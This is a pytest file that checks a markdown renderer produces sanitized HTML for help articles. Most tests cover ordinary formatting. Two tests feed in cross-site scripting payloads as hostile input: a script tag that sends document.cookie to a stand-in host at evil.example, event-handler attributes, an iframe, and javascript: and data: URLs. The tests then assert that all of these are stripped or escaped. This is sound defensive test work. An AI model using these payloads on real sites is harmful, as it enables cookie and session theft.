"""Article Markdown rendered to sanitized HTML (knowledge.markdown)."""

from knowledge.markdown import render_markdown


def test_markdown_renders_headings_lists_emphasis_and_tables():
    html = render_markdown(
        "## Fees\n\n* **First** bag: 30 EUR\n* ~~Free~~ second bag\n\n| bag | fee |\n|---|---|\n| 1 | 30 |"
    )

    assert "<h2>Fees</h2>" in html
    assert "<li><strong>First</strong> bag: 30 EUR</li>" in html
    assert "<s>Free</s>" in html
    assert "<td>30</td>" in html


def test_links_get_nofollow_noopener():
    html = render_markdown("See [our status page](https://status.acme.example/).")

    assert '<a href="https://status.acme.example/" rel="nofollow noopener">our status page</a>' in html


def test_script_tags_event_handlers_and_iframes_are_never_html():
    hostile = (
        "<script>document.location='https://evil.example/?c='+document.cookie</script>\n\n"
        '<img src="x" onerror="alert(1)">\n\n'
        '<iframe src="https://evil.example/"></iframe>\n\n'
        '<a href="https://acme.example/" onclick="steal()">click</a>'
    )

    html = render_markdown(hostile)

    assert "<script" not in html and "<iframe" not in html and "<img" not in html and "<a " not in html
    assert "&lt;script&gt;" in html  # shown as text, so an author sees what they wrote


def test_javascript_and_data_urls_make_no_link():
    html = render_markdown(
        "[pay here](javascript:alert(document.cookie)) [x](JAVASCRIPT:alert(1)) "
        "[y](data:text/html;base64,PHNjcmlwdD4=) ![z](javascript:alert(2))"
    )

    assert "href" not in html and "src" not in html


def test_an_image_keeps_only_its_source_and_text():
    html = render_markdown('![Cabin bag sizer](https://cdn.acme.example/sizer.png "Sizer")')

    assert html.strip() == '<p><img src="https://cdn.acme.example/sizer.png" alt="Cabin bag sizer" title="Sizer"></p>'
